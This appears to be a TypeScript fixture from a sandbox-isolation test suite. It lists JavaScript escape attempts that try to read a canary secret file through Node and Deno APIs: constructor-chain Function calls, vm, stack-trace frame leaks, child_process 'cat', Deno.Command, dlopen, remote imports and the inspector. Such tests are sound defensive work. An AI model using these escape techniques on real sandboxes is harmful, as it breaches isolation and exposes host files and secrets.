// If this worked: a program in JavaScript would climb from its own realm into the host's process and use its modules.
import { type Attack, ENGINE_GAP } from '../attack.ts';

export const attack: Attack = {
  programs: [
    {
      language: 'javascript',
      control: true,
      code: (field) => `
const file = ${JSON.stringify(field.secretFile)};
const F = (async () => {}).constructor, G = Function;
const read = (fs) => fs.readFileSync(file, 'utf8');
await attempt('require', () => read(require('node:fs')));
await attempt('constructor chain', () => read(this?.constructor?.constructor?.('return process')()?.getBuiltinModule('fs')));
await attempt('global Function', () => read(G('return process')().getBuiltinModule('fs')));
await attempt('async Function', async () => read((await F('return import("node:fs")')())));
await attempt('Module._load', () => read(require('node:module')._load('fs')));
await attempt('createRequire', () => read(require('node:module').createRequire('/')('fs')));
await attempt('process.binding', () => process.binding('fs') && read(process.getBuiltinModule('fs')));
await attempt('child', () => require('node:child_process').execSync('cat ' + file).toString().includes('canary') && 'read');
await attempt('worker', () => new Promise((resolve, reject) => {
  const { Worker } = require('node:worker_threads');
  const w = new Worker('const { parentPort, workerData } = require("node:worker_threads"); parentPort.postMessage(require("node:fs").readFileSync(workerData, "utf8"))', { eval: true, workerData: file });
  w.on('message', resolve).on('error', reject).on('exit', () => reject(new Error('ended')));
  setTimeout(() => reject(new Error('late')), 2000);
}));
await attempt('vm', () => require('node:vm').runInThisContext('process').getBuiltinModule('fs').readFileSync(file, 'utf8'));
await attempt('prepareStackTrace', () => {
  const old = Error.prepareStackTrace; let found;
  Error.prepareStackTrace = (_, frames) => { for (const f of frames) { const t = f.getThis?.(); if (t?.process) found = t.process; } };
  try { new Error().stack } finally { Error.prepareStackTrace = old }
  return found && read(found.getBuiltinModule('fs'));
});
await attempt('Promise species', () => new Promise((resolve, reject) => {
  class P extends Promise { static get [Symbol.species]() { return function (run) { run((v) => v, (e) => { const p = e?.constructor?.constructor?.('return process')(); try { resolve(read(p.getBuiltinModule('fs'))) } catch (x) { reject(x) } }); }; } }
  P.reject(new Error()).then(() => {}, () => {});
  setTimeout(() => reject(new Error('no')), 200);
}));
`,
    },
    {
      language: 'javascript',
      control: 'There is no Deno outside; on other walls the names do not exist',
      code: (field) => `
const file = ${JSON.stringify(field.secretFile)};
const D = globalThis.Deno ?? {};
await attempt('Deno.readTextFile', () => D.readTextFileSync(file));
await attempt('Deno.open', () => D.openSync(file));
await attempt('Deno.env', () => JSON.stringify(D.env.toObject()).includes('canary'));
await attempt('Deno.Command', () => new D.Command('cat', { args: [file] }).outputSync());
await attempt('Deno.connect', () => D.connect({ port: ${field.port} }));
await attempt('Deno.listen', () => D.listen({ port: 0 }));
await attempt('Deno.dlopen', () => D.dlopen('libc.so.6', {}));
await attempt('Deno.kill', () => D.kill(${field.markedPid}, 'SIGKILL') ?? 'sent');
await attempt('Deno.symlink', () => (D.symlinkSync(file, '/tmp/link'), D.readTextFileSync('/tmp/link')));
await attempt('Deno.permissions', async () => (await D.permissions.request({ name: 'read' })).state === 'granted');
await attempt('a worker with more', () => new Promise((resolve, reject) => {
  const code = 'try { postMessage(Deno.readTextFileSync(' + JSON.stringify(file) + ')) } catch (e) { postMessage("") }';
  const w = new Worker('data:text/javascript,' + encodeURIComponent(code), { type: 'module' });
  w.onmessage = (e) => resolve(e.data); w.onerror = (e) => { e.preventDefault?.(); reject(new Error('error')); };
  setTimeout(() => reject(new Error('late')), 1000);
}));
await attempt('import of a file', () => import(file));
await attempt('import of a text', () => import('data:application/json,{}', { with: { type: 'json' } }).then(() => import('file://' + file)));
await attempt('remote import', () => import('https://example.com/x.js'));
await attempt('dlopen', () => process.dlopen({ exports: {} }, '/lib/x86_64-linux-gnu/libc.so.6') ?? null);
await attempt('inspector', () => { const i = require('node:inspector'); i.open(0); return i.url(); });
`,
      not: {
        ...ENGINE_GAP,
        bubblewrap: 'There is no Deno behind that wall, and an inspector on its own loopback is its own',
      },
    },
  ],
};
